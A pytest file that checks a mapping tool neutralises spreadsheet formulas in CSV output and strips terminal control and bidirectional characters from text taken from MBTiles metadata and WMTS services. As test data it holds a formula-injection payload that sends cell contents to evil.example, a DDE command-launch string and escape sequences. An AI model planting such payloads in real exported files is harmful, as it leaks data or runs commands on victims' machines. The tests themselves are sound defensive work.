"""What others wrote steers no terminal and is no formula in a table."""

from __future__ import annotations

import csv
import importlib
import sqlite3
import warnings
from contextlib import closing

import pytest
from terrainav.core.text import printable, table_cell

from tests.support.command import command
from tests.support.patterns import positions, to_bytes
from tests.support.services import ServiceServer, matrix, matrix_set, wmts_document, wmts_layer

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formulas_are_text_in_tables(text):
    written = table_cell(text)
    assert written.startswith("'")
    assert written.isprintable()
    # Writing it again changes nothing.
    assert table_cell(written) == written


@pytest.mark.parametrize("text", ["© Survey of Nowhere", "Überflug 2020", "", "a = b - c", "a@b"])
def test_other_text_is_as_it_is(text):
    assert table_cell(text) == printable(text) == text


def test_what_controls_a_terminal_is_left_out():
    assert printable("a\x1b]0;title\x07b\x9b31m\u202ec\nd") == "a ]0;title b 31m c d"


def test_a_capture_s_table_has_no_formula_of_a_file(tmp_path, monkeypatch, capsys):
    """The name, the attribution and the reason of a failure are those of whoever made the MBTiles."""
    run = command(tmp_path, monkeypatch, capsys)
    path = tmp_path / "own.mbtiles"
    with closing(sqlite3.connect(path)) as database:
        database.execute("CREATE TABLE metadata (name text, value text)")
        database.execute("CREATE TABLE tiles (zoom_level int, tile_column int, tile_row int, tile_data blob)")
        for name in ("name", "attribution"):
            database.execute("INSERT INTO metadata VALUES (?, ?)", (name, FORMULA))
        zoom, x, north = 15, 8201, 12961
        for column in range(x - 3, x + 4):
            for row in range(north - 3, north + 4):
                body = to_bytes(positions("", zoom, column, row, 256), "png")
                database.execute(
                    "INSERT INTO tiles VALUES (?, ?, ?, ?)", (zoom, column, (1 << zoom) - 1 - row, body)
                )
        database.commit()
    made = run(
        "capture", "--coords", "35.16_-89.90_400", "--source", str(path), "--zoom", "15", "--data-dir", "out"
    )
    assert made.returncode == 0, made.stderr
    with (tmp_path / "out" / "satellite" / "meta_data.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["source"] == row["attribution"] == f"'{FORMULA}"


def test_layers_of_a_service_steer_no_terminal(tmp_path, monkeypatch, capsys):
    pytest.importorskip("owslib")
    with warnings.catch_warnings():
        # It imports a module that Python is going to drop; that is for it to change.
        warnings.simplefilter("ignore", DeprecationWarning)
        importlib.import_module("owslib.wmts")
    run = command(tmp_path, monkeypatch, capsys)
    layers = [wmts_layer("a&#x9b;31m&#x202e;b", {"quad": []}, title=""), wmts_layer("c", {"quad": []})]
    with ServiceServer() as server:
        sets = [matrix_set("quad", [matrix("0", 0)])]
        server.answer = lambda *_: (200, "text/xml", wmts_document(layers, sets, get_tile=server.url))
        for name in ("", "#layer=a\x9b31m\u202eb", "#layer=none"):
            made = run("sources", "show", f"wmts:{server.url}/c.xml{name}")
            assert all(line.isprintable() for line in (made.stdout + made.stderr).splitlines())
            assert "31m" in made.stdout + made.stderr
